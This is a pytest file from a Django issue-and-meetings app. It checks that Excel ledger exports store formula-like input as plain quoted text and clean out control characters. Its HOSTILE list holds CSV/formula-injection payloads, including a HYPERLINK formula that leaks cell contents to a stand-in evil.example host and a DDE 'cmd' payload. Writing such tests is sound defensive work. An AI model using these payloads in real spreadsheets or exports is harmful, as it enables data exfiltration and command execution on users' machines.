"""Excel exports: text that looks like a formula is written as text, and no character anyone
can type (or paste from Word) breaks a ledger."""

import datetime as dt
import zipfile
from io import BytesIO
from zoneinfo import ZoneInfo

import pytest
from django.utils import timezone
from openpyxl import load_workbook

from issues.models import Issue
from issues.services import post_update
from meetings.models import Decision, Meeting, Minutes
from organisation.models import Department
from reports.cells import clean_text
from tests.issue_helpers import assign, file_issue

pytestmark = pytest.mark.django_db

BEIJING = ZoneInfo("Asia/Shanghai")

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点这里")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]


def cells_of(response):
    assert response.status_code == 200
    content = response.content
    with zipfile.ZipFile(BytesIO(content)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml  # not one formula in the file
    sheet = load_workbook(BytesIO(content)).active
    return [cell for row in sheet.iter_rows(min_row=2) for cell in row]


def assert_text(cells, expected):
    found = {c.value: c for c in cells if isinstance(c.value, str)}
    for text in expected:
        cell = found.get(text)
        assert cell is not None, f"{text!r} is in the ledger as typed"
        assert cell.data_type == "s" and cell.quotePrefix, text


@pytest.mark.parametrize("text", HOSTILE)
def test_issue_ledger_titles_and_progress_notes_are_text(
    client, software_officer, secretariat, hrss_staff, text
):
    issue = assign(file_issue(software_officer, title="招聘难"), secretariat)
    Issue.objects.filter(pk=issue.pk).update(title=text)  # whatever got in before validation
    post_update(issue, hrss_staff, "进展" + text)
    post_update(issue, hrss_staff, text)  # the latest note is the one in the ledger
    client.force_login(secretariat)

    assert_text(cells_of(client.get("/issues/export.xlsx")), [text])


def approved_decision(secretariat, text, issue=None):
    meeting = Meeting.objects.create(
        kind="regular", scheduled_at=dt.datetime(2024, 5, 10, 9, tzinfo=BEIJING)
    )
    minutes = Minutes.objects.create(
        meeting=meeting, approved_at=timezone.now(), approved_by=secretariat
    )
    Decision.objects.create(
        minutes=minutes,
        order=1,
        text=text,
        department=Department.objects.get(code="hrss"),
        due_date=dt.date(2024, 11, 30),
        issue=issue,
    )


@pytest.mark.parametrize("text", HOSTILE)
def test_decisions_ledger_texts_and_issue_titles_are_text(
    client, software_officer, secretariat, leader, text
):
    issue = file_issue(software_officer)
    Issue.objects.filter(pk=issue.pk).update(title=text)
    approved_decision(secretariat, text, issue)
    client.force_login(leader)

    assert_text(cells_of(client.get("/meetings/decisions/2024.xlsx")), [text])


CONTROL = "第一行\x0b第二行\x01\x08\x1f\uffff结束"  # PostgreSQL cannot even store a NUL


def test_control_characters_never_break_the_issue_ledger(
    client, software_officer, secretariat, hrss_staff
):
    issue = assign(file_issue(software_officer), secretariat)
    Issue.objects.filter(pk=issue.pk).update(title=CONTROL)
    post_update(issue, hrss_staff, "x")
    issue.updates.update(text=CONTROL)
    client.force_login(secretariat)

    cells = cells_of(client.get("/issues/export.xlsx"))

    assert [c.value for c in cells].count("第一行\n第二行\ufffd\ufffd\ufffd\ufffd结束") == 2


def test_control_characters_never_break_the_decisions_ledger(client, secretariat, leader):
    approved_decision(secretariat, "=" + CONTROL)
    client.force_login(leader)

    cells = cells_of(client.get("/meetings/decisions/2024.xlsx"))

    assert "=第一行\n第二行\ufffd\ufffd\ufffd\ufffd结束" in [c.value for c in cells]


def test_ordinary_text_is_left_as_typed():
    assert clean_text("普通文字\t含制表符\n换行\r\n") == "普通文字\t含制表符\n换行\r\n"
